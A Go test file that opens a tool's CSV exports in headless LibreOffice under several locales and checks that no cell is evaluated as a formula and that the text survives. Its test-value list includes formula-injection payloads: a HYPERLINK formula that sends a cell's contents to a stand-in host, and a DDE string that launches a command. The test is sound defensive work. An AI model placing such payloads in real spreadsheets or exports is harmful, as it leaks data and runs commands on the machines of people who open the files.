package command

import (
	"bytes"
	"encoding/xml"
	"fmt"
	"html"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/idleseat/idleseat/shared/sandbox"
)

// The variable "awkward" has names that a spreadsheet could evaluate, split, or show in the wrong encoding.
var awkward = []string{
	`=HYPERLINK("http://x.example/?"&A1;"click")`, `+cmd|' /C calc'!A0`, "@SUM(1;1)", "-2+3", "\t=1+1", "a\r=1+1", "\n=1+1", "＝1+1", " =1+1", `"=1+1"`,
	"Anna;=1+1;x", "Anna,=1+1,x", `Anna"; =1+1;`, "Anna\u2028=1+1", "Åsa Öberg, ÄÖ", "Müller-Groß; Jürgen", "漢字 太郎", "שרה כהן", `Bo "B" O'Brien`,
}

// TestSpreadsheet opens the CSV files of the command in LibreOffice. LibreOffice evaluates formulas and detects special
// numbers in this test, because Excel always does so.
func TestSpreadsheet(t *testing.T) {
	t.Parallel()
	if os.Getenv("IDLESEAT_TEST_SPREADSHEET") == "" {
		t.Skip("SKIPPED: IDLESEAT_TEST_SPREADSHEET is not set (make test-spreadsheet sets it)")
	}
	if _, err := exec.LookPath("soffice"); err != nil {
		t.Skip("SKIPPED: LibreOffice is not installed")
	}
	s := newShell(t, sandbox.Options{Users: 300, Seed: 6}, replace(t, "\nattributes:\n", "\nattributes:\n  costCenter: entra.extensionAttribute5\n"))
	for i := range s.company.Company.Size() {
		s.company.Company.SetDisplayName(i, awkward[i%len(awkward)])
		s.company.Company.SetDepartment(i, awkward[i/2%len(awkward)])
	}
	p := s.plan(exitDone)
	s.finish(p.Run)
	for _, separator := range []string{",", ";"} {
		name := map[string]string{",": "comma", ";": "semicolon"}[separator]
		for file, args := range map[string][]string{
			"changes":  {"show", p.Run, "--csv", "changes"},
			"left-out": {"show", p.Run, "--csv", "left-out"},
			"savings":  {"savings", "--format", "csv"},
		} {
			s.write(file+"-"+name+".csv", string(s.want(exitDone, append(args, "--csv-separator", separator)...).out))
		}
		s.write("evaluated-"+name+".csv", "\ufeff=1+1"+separator+"x\r\n")
	}
	for _, tc := range []struct{ locale, written, expected string }{
		{"en-US", ",", ","}, {"sv-SE", ";", ";"}, {"de-DE", ";", ";"},
		{"sv-SE", ",", ";"}, {"en-US", ";", ","}, // LibreOffice expects a separator that the file does not have
	} {
		t.Run(fmt.Sprintf("%s reads %q as %q", tc.locale, tc.written, tc.expected), func(t *testing.T) {
			t.Parallel()
			opened := s.opened(t, tc.locale, tc.written, tc.expected)
			if first := opened["evaluated"][0][0]; first.Formula == "" {
				t.Fatalf("LibreOffice evaluated no formula, so that this test shows nothing: %+v", first)
			}
			delete(opened, "evaluated")
			seen := map[string]bool{}
			for file, rows := range opened {
				for i, row := range rows {
					for n := range row {
						if seen[row[n].value()] = true; row[n].Formula != "" {
							t.Errorf("%s: row %d, column %d is evaluated: %+v", file, i, n, row[n])
						}
					}
				}
				if tc.written == tc.expected {
					s.sameSheet(t, file, tc.written, rows)
				}
			}
			for _, letters := range awkward[len(awkward)-5:] {
				if tc.written == tc.expected && !seen[letters] {
					t.Errorf("no cell is %s", letters)
				}
			}
		})
	}
}

type spreadCell struct {
	Formula  string `xml:"urn:oasis:names:tc:opendocument:xmlns:table:1.0 formula,attr"`
	Repeated int    `xml:"urn:oasis:names:tc:opendocument:xmlns:table:1.0 number-columns-repeated,attr"`
	Type     string `xml:"urn:oasis:names:tc:opendocument:xmlns:office:1.0 value-type,attr"`
	Number   string `xml:"urn:oasis:names:tc:opendocument:xmlns:office:1.0 value,attr"`
	Date     string `xml:"urn:oasis:names:tc:opendocument:xmlns:office:1.0 date-value,attr"`
	Lines    []struct {
		XML string `xml:",innerxml"`
	} `xml:"urn:oasis:names:tc:opendocument:xmlns:text:1.0 p"`
}

// The method "value" returns the text of a cell. For a number or a date, it also returns the type, such as "number 18".
func (c *spreadCell) value() string {
	switch c.Type {
	case "float":
		return "number " + c.Number
	case "date":
		return "date " + c.Date
	case "", "string":
		var lines []string
		for _, l := range c.Lines {
			lines = append(lines, html.UnescapeString(strings.ReplaceAll(l.XML, "<text:s/>", " "))) // the XML decoder would drop the blank
		}
		return strings.Join(lines, "\n")
	}
	return fmt.Sprintf("%+v", c)
}

// The method "opened" opens CSV files in LibreOffice with the settings of the locale. The argument "written" is the
// separator in the files. The argument "expected" is the separator that LibreOffice expects. A key of the result is the
// name of a file.
func (s *shell) opened(t *testing.T, locale, written, expected string) map[string][][]spreadCell {
	t.Helper()
	suffix := map[string]string{",": "-comma", ";": "-semicolon"}[written]
	files, err := filepath.Glob(s.path("*" + suffix + ".csv"))
	if err != nil || len(files) != 4 {
		t.Fatalf("files %q, %v", files, err)
	}
	profile, out := t.TempDir(), t.TempDir()
	settings := `<?xml version="1.0" encoding="UTF-8"?><oor:items xmlns:oor="http://openoffice.org/2001/registry"><item oor:path="/org.openoffice.Setup/L10N">` +
		`<prop oor:name="ooSetupSystemLocale" oor:op="fuse"><value>` + locale + `</value></prop></item></oor:items>`
	if err := os.Mkdir(filepath.Join(profile, "user"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(profile, "user", "registrymodifications.xcu"), []byte(settings), 0o600); err != nil {
		t.Fatal(err)
	}
	// The options are the separator, the quote, UTF-8, the first line, no formats of columns, the language of the
	// profile, quoted cells are not always text, special numbers, three options of export, all sheets, and evaluation
	// of formulas (https://help.libreoffice.org/latest/en-US/text/shared/guide/csv_params.html).
	filter := fmt.Sprintf("CSV:%d,34,76,1,,0,false,true,false,false,false,0,true", expected[0])
	cmd := exec.CommandContext(t.Context(), "soffice", append([]string{"--headless", "--norestore", "-env:UserInstallation=file://" + profile, "--infilter=" + filter, "--convert-to", "fods", "--outdir", out}, files...)...)
	if said, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, said)
	}
	all := map[string][][]spreadCell{}
	for _, file := range files {
		name := strings.TrimSuffix(filepath.Base(file), ".csv")
		text, err := os.ReadFile(filepath.Join(out, name+".fods"))
		if err != nil {
			t.Fatal(err)
		}
		all[strings.TrimSuffix(name, suffix)] = spreadCells(t, text)
	}
	return all
}

// spreadCells returns the cells of a flat OpenDocument file, row by row. It leaves out empty cells at the end of a row.
func spreadCells(t *testing.T, file []byte) (rows [][]spreadCell) {
	t.Helper()
	var document struct {
		Rows []struct {
			Cells []spreadCell `xml:"table-cell"`
		} `xml:"body>spreadsheet>table>table-row"`
	}
	if err := xml.NewDecoder(bytes.NewReader(file)).Decode(&document); err != nil {
		t.Fatal(err)
	}
	for _, r := range document.Rows {
		var row []spreadCell
		for _, c := range r.Cells {
			row = append(row, slices.Repeat([]spreadCell{c}, max(c.Repeated, 1))...)
		}
		for len(row) > 0 && row[len(row)-1].value() == "" {
			row = row[:len(row)-1]
		}
		rows = append(rows, row)
	}
	return rows
}

func (s *shell) sameSheet(t *testing.T, file, separator string, rows [][]spreadCell) {
	t.Helper()
	raw, err := os.ReadFile(s.path(file + map[string]string{",": "-comma", ";": "-semicolon"}[separator] + ".csv"))
	if err != nil {
		t.Fatal(err)
	}
	written := sheetOf(t, raw, separator)
	if len(written) < 3 || len(rows) != len(written) {
		t.Fatalf("%s: %d rows, and %d were written", file, len(rows), len(written))
	}
	kinds := map[string]int{}
	for i, line := range written {
		var want, got []string
		for n, text := range line {
			title := written[0][n]
			switch {
			case i > 0 && text != "" && ofNumbers(title):
				number, err := strconv.ParseFloat(strings.ReplaceAll(text, ",", "."), 64)
				if err != nil {
					t.Fatalf("%s: %s has %q: %v", file, title, text, err)
				}
				text = "number " + strconv.FormatFloat(number, 'f', -1, 64)
				kinds["number"]++
			case i > 0 && text != "" && (title == "idleSinceDate" || title == "x_Month"):
				text = "date " + text
				kinds["date"]++
			}
			want = append(want, text)
		}
		for len(want) > 0 && want[len(want)-1] == "" {
			want = want[:len(want)-1]
		}
		for n := range rows[i] {
			got = append(got, rows[i][n].value())
		}
		if d := cmp.Diff(want, got); d != "" {
			t.Errorf("%s: row %d (-written +opened):\n%s", file, i, d)
		}
	}
	if file != "left-out" && (kinds["number"] == 0 || kinds["date"] == 0) {
		t.Errorf("%s has no numbers or no dates: %v", file, kinds)
	}
}

func ofNumbers(title string) bool {
	return title == "monthlySaving" || title != "x_CostCenter" && (strings.HasSuffix(title, "Cost") || strings.HasSuffix(title, "Seats") || strings.HasSuffix(title, "Days"))
}
